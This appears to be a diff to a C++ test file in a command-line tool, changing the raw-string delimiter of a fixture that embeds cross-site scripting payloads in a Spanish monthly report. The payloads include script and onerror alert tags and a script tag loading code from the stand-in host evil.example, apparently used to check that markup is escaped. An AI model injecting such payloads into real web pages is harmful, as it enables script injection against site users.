@@ -15,7 +15,7 @@ namespace acervo::cli {
 namespace {
 
 // Every cell and bullet tries to be markup, in each way that once worked somewhere.
-constexpr std::string_view kHostile = R"(<script>alert(1)</script> OFICINA <b>X</b>
+constexpr std::string_view kHostile = R"hostile(<script>alert(1)</script> OFICINA <b>X</b>
 
 INFORME MENSUAL - MAYO 2019
 
@@ -27,7 +27,7 @@ INFORME MENSUAL - MAYO 2019
 COORDINACIONES
 - Se coordina con <img src=x onerror=alert(6)> la visita del 3 de junio de 2019.
   - </p></li><script src=//evil.example/x.js></script>
-)";
+)hostile";
 
 std::string Lower(std::string text) {
   for (char& c : text) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
